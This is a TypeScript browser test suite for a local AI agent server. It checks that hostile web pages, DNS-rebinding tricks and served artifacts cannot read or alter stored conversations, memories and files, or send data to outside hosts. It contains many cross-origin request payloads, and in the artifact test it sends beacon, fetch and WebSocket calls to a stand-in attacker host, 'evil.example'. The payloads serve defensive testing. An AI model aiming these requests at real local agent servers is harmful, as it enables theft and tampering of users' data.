import { once } from 'node:events';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { startTestAgent, type TestAgent } from '@polywire/runtime/agent/testing/agent.ts';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { haveChromium, startChromium } from './chromium.ts';

/** Issue 6, "Guard" and "Artifacts": what pages in a real browser can do to the agent server, and what artifacts can. */
const executable = await haveChromium();

/** A page of the attacker's, without anything in it. */
async function startAttacker(): Promise<Server> {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>prize</title><body>');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

describe('the agent server in Chromium', { skip: executable === null, timeout: 60_000 }, () => {
  let agent: TestAgent;
  let attacker: Server;
  let browser: Browser;
  let evil: string;
  let project: string;
  let conversation: string;
  beforeAll(async () => {
    agent = await startTestAgent();
    attacker = await startAttacker();
    evil = `http://evil.example:${(attacker.address() as AddressInfo).port}`;
    // Names that lead to this machine, as an attacker's own name server would have them.
    const rules = '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1';
    // Chromium's own wall around this machine stays open: others have none.
    browser = await startChromium(String(executable), [rules, '--disable-features=LocalNetworkAccessChecks']);
    project = await made('/projects', { name: 'Secret project' });
    conversation = await made('/conversations', { title: 'Secret conversation' });
  }, 60_000);
  afterAll(async () => {
    await browser.close();
    attacker.close();
    await agent.close();
  });

  let context: BrowserContext;
  let page: Page;
  beforeEach(async () => {
    context = await browser.newContext();
    page = await context.newPage();
  });
  afterEach(() => context.close());

  async function made(path: string, body: object): Promise<string> {
    const answer = await agent.send('POST', path, body);
    expect(answer.status).toBe(201);
    return ((await answer.json()) as { id: string }).id;
  }

  /** All that a page might have changed. */
  async function everything(): Promise<unknown> {
    const paths = ['/projects', '/conversations', '/memories', '/skills', '/files', '/connectors/connections'];
    return Promise.all(paths.map(async (path) => (await agent.call(path)).json()));
  }

  /** What the log says of the requests that came because of `work`, of which there is one at least. */
  async function asked(work: () => Promise<void>): Promise<readonly number[]> {
    const before = agent.log.length;
    const statuses = (): number[] =>
      agent.log
        .slice(before)
        .map((line) => JSON.parse(line) as { message: string; status: number })
        .filter(({ message }) => message === 'request')
        .map(({ status }) => status);
    await work();
    // A beacon goes out when the page has gone on already.
    await expect.poll(statuses).not.toEqual([]);
    return statuses();
  }

  describe('a page of another origin', () => {
    const json = `{ 'content-type': 'application/json' }`;
    const send = (init: string): string => `fetch(api + '/memories', ${init}).then((answer) => answer.text())`;
    const element = (tag: string, set: string): string =>
      `new Promise((resolve) => {
        const element = document.createElement('${tag}');
        const done = () => {
          try { resolve(element.contentDocument?.body.innerText ?? ''); } catch { resolve(''); }
        };
        Object.assign(element, { onload: done, onerror: done }, ${set});
        document.body.append(element);
        setTimeout(done, 1000);
      })`;

    /** Programs of the page, which end with what they could read; `api` is the base URL. */
    const ways: readonly (readonly [name: string, program: string])[] = [
      ['fetch, simple', `fetch(api + '/conversations').then((answer) => answer.text())`],
      ['fetch without CORS', `fetch(api + '/conversations', { mode: 'no-cors' }).then((answer) => answer.text())`],
      ['fetch that is asked for first', send(`{ method: 'POST', headers: ${json}, body: '{"content":"x"}' }`)],
      ['fetch with a body of a simple type', send(`{ method: 'POST', mode: 'no-cors', body: '{"content":"x"}' }`)],
      ['fetch without a body, which is never asked for first', send(`{ method: 'POST', mode: 'no-cors' }`)],
      ['a beacon', `Promise.resolve(navigator.sendBeacon(api + '/memories', '{"content":"x"}')).then(() => '')`],
      ['DELETE', `fetch(api + '/conversations/' + conversation, { method: 'DELETE' }).then((answer) => answer.text())`],
      [
        'an upload',
        `(() => {
          const body = new FormData();
          body.append('file', new Blob(['x']), 'x.txt');
          return fetch(api + '/files', { method: 'POST', mode: 'no-cors', body }).then((answer) => answer.text());
        })()`,
      ],
      [
        'XMLHttpRequest',
        `new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.onloadend = () => resolve(request.responseText);
          request.open('GET', api + '/conversations');
          request.send();
        })`,
      ],
      [
        'a form in a frame',
        `new Promise((resolve) => {
          const frame = Object.assign(document.createElement('iframe'), { name: 'target' });
          const form = document.createElement('form');
          Object.assign(form, { action: api + '/memories', method: 'POST', enctype: 'text/plain', target: 'target' });
          form.append(Object.assign(document.createElement('input'), { name: '{"content":"', value: '"}' }));
          document.body.append(frame, form);
          setTimeout(() => {
            try { resolve(frame.contentDocument.body.innerText); } catch { resolve(''); }
          }, 1000);
          form.submit();
        })`,
      ],
      ...['img', 'script', 'iframe', 'video', 'embed'].map(
        (tag) => [`<${tag}>`, element(tag, `{ src: api + '/conversations' }`)] as const,
      ),
      ['<link>', element('link', `{ rel: 'stylesheet', href: api + '/conversations' }`)],
      ['<object>', element('object', `{ data: api + '/conversations' }`)],
      [
        'EventSource',
        `new Promise((resolve) => {
          const source = new EventSource(api + '/events');
          source.onopen = () => resolve('open');
          source.onerror = () => { source.close(); resolve(''); };
        })`,
      ],
      [
        'WebSocket',
        `new Promise((resolve) => {
          const socket = new WebSocket(api.replace('http', 'ws') + '/events');
          socket.onopen = () => resolve('open');
          socket.onerror = () => resolve('');
        })`,
      ],
      [
        'the GET that begins an authorization',
        `fetch(api + '/connectors/oauth/github/start', { mode: 'no-cors' }).then((answer) => answer.text())`,
      ],
    ];

    it.each(ways)('%s: reads nothing and changes nothing', async (_, program) => {
      const before = await everything();
      await page.goto(evil);
      for (const name of ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0']) {
        const api = `http://${name}:${agent.port}/api/v1`;
        const seen = await asked(async () => {
          const run = `const api = '${api}', conversation = '${conversation}'; (${program}).catch(() => '')`;
          expect(await page.evaluate(run), name).toBe('');
        });
        expect(new Set(seen), name).toEqual(new Set([403]));
      }
      expect(await everything()).toEqual(before);
    });

    it('that calls itself the agent server (DNS rebinding) reads nothing and changes nothing', async () => {
      const before = await everything();
      const rebound = `http://rebound.example:${agent.port}`;
      // The attacker's own answer while the name still leads to its server.
      await page.route(`${rebound}/`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html>' }));
      await page.goto(rebound);
      const seen = await asked(async () => {
        const told = await page.evaluate(async () => {
          const [read, write] = await Promise.all([
            fetch('/api/v1/conversations'),
            fetch('/api/v1/memories', {
              method: 'POST',
              headers: { 'content-type': 'application/json' },
              body: '{"content":"x"}',
            }),
          ]);
          return [read.status, await read.text(), write.status, await write.text()].join(' ');
        });
        expect(told).not.toContain('Secret');
        expect(told.match(/forbidden_host/g)).toHaveLength(4);
      });
      expect(seen).toEqual([403, 403]);
      expect(await everything()).toEqual(before);
    });

    it('that leads the person to the API shows an error, and in a frame nothing', async () => {
      await page.goto(evil);
      await page.evaluate(`location.href = '${agent.url}/api/v1/conversations'`);
      await page.waitForURL(/conversations/);
      expect(await page.locator('body').innerText()).toContain('forbidden_origin');
    });
  });

  it('a page of its own, the reference, shows every operation and tries them', async () => {
    const complaints: string[] = [];
    page.on('console', (message) => complaints.push(message.text()));
    await page.goto(`${agent.url}/docs#/Conversations/deleteConversation`);
    await page.locator('.opblock').first().waitFor();
    const { paths } = (await (await fetch(`${agent.url}/docs/openapi.json`)).json()) as { paths: object };
    const operations = Object.values(paths).flatMap((path: object) => Object.keys(path));
    expect(await page.locator('.opblock').count()).toBe(operations.length);
    const id = await made('/conversations', { title: 'to be deleted' });
    const operation = page.locator('.opblock.is-open');
    await operation.waitFor();
    await operation.locator('input').fill(id);
    await operation.locator('button.execute').click();
    await operation.locator('.live-responses-table .response-col_status').first().waitFor();
    expect(await operation.locator('.live-responses-table').innerText()).toContain('"deleted": true');
    expect((await agent.call(`/conversations/${id}`)).status).toBe(404);
    expect(complaints.filter((text) => !text.includes('404'))).toEqual([]);
  });

  describe('an artifact', () => {
    const parts: Readonly<Record<string, string>> = {
      'index.html': `<!doctype html><html><head><title>mine</title>
        <link rel="stylesheet" href="style.css"><script src="lib/app.js"></script></head>
        <body><img id="drawing" src="drawing.svg"><p id="page">page</p>
        <script type="module">globalThis.inline = 'module';</script>
        <a id="next" href="sub/">next</a></body></html>`,
      'style.css': '#page { color: rgb(1, 2, 3) }',
      'lib/app.js': `globalThis.mine = 'classic';`,
      'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"><script>globalThis.drawn = 1</script></svg>`,
      'sub/index.html': '<!doctype html><title>sub</title>',
      'data.json': '{"secret":"data"}',
    };
    let base: string;
    beforeAll(async () => {
      for (const [path, text] of Object.entries(parts)) {
        const file = join(agent.home, 'projects', project, path);
        await mkdir(join(file, '..'), { recursive: true });
        await writeFile(file, text);
      }
      base = `${agent.url}/api/v1/artifacts/serve/${project}/`;
    });

    it('is made of its own style sheet, script, drawing and pages', async () => {
      const complaints: string[] = [];
      page.on('console', (message) => complaints.push(message.text()));
      await page.goto(base);
      expect(await page.evaluate('[globalThis.mine, globalThis.inline, self.origin].join()')).toBe(
        'classic,module,null',
      );
      expect(await page.evaluate(`getComputedStyle(document.getElementById('page')).color`)).toBe('rgb(1, 2, 3)');
      expect(await page.evaluate(`document.getElementById('drawing').naturalWidth`)).toBe(7);
      expect(complaints).toEqual([]);
      await page.locator('#next').click();
      await page.waitForURL(`${base}sub/`);
      expect(await page.title()).toBe('sub');
    });

    it('cannot read or change anything of the server, nor reach the rest of the world', async () => {
      const before = await everything();
      const received: string[] = [];
      attacker.on('request', ({ url }) => received.push(String(url)));
      await page.goto(base);
      const api = `${agent.url}/api/v1`;
      const told = await page.evaluate(
        `Promise.allSettled([
          fetch('${api}/conversations').then((answer) => answer.text()),
          fetch('${api}/memories', { method: 'POST', body: '{"content":"x"}', mode: 'no-cors' }),
          fetch('data.json').then((answer) => answer.text()),
          fetch('${evil}/fetch'),
          new Promise((resolve, reject) => Object.assign(new EventSource('${api}/events'), { onopen: resolve, onerror: reject })),
          new Promise((resolve, reject) => Object.assign(new WebSocket('${evil.replace('http', 'ws')}/'), { onopen: resolve, onerror: reject })),
          new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: '${evil}/image' })),
          new Promise((resolve, reject) => document.head.append(Object.assign(document.createElement('script'), { onload: resolve, onerror: reject, src: '${api}/conversations' }))),
          new Promise((resolve, reject) => document.head.append(Object.assign(document.createElement('script'), { onload: resolve, onerror: reject, src: '${evil}/script' }))),
          new Promise((resolve, reject) => Object.assign(new Worker('lib/app.js'), { onerror: reject })),
          Promise.resolve(navigator.sendBeacon('${evil}/beacon', 'x')).then(() => { throw 0; }),
          Promise.resolve().then(() => document.cookie),
          Promise.resolve().then(() => localStorage.length),
        ]).then((all) => all.map(({ status }) => status).join())`,
      );
      expect(String(told).split(',')).toEqual(Array.from({ length: 13 }, () => 'rejected'));
      await page.evaluate(
        `const form = document.createElement('form'); form.method = 'POST'; form.action = '${evil}/form'; document.body.append(form); form.submit();`,
      );
      expect(await everything()).toEqual(before);
      expect(received).toEqual([]);
    });

    it('as a drawing of its own has no other rights', async () => {
      await page.goto(`${base}drawing.svg`);
      expect(await page.evaluate('[globalThis.drawn, self.origin].join()')).toBe('1,null');
      expect(
        await page.evaluate(`fetch('${agent.url}/api/v1/conversations').then(() => 'read', () => 'refused')`),
      ).toBe('refused');
    });

    it('stands in no frame of another page, and its text is no program of another page', async () => {
      await page.goto(evil);
      const told = await page.evaluate(
        `Promise.all([
          new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = '${base}'; frame.onload = () => resolve('loaded'); document.body.append(frame); }),
          fetch('${base}data.json').then((answer) => answer.text()).catch(() => 'refused'),
        ])`,
      );
      expect(told).toEqual(['loaded', 'refused']);
      const inside = page.frames().find((frame) => frame !== page.mainFrame());
      expect(await inside?.locator('body').innerText()).not.toContain('page');
    });
  });
});
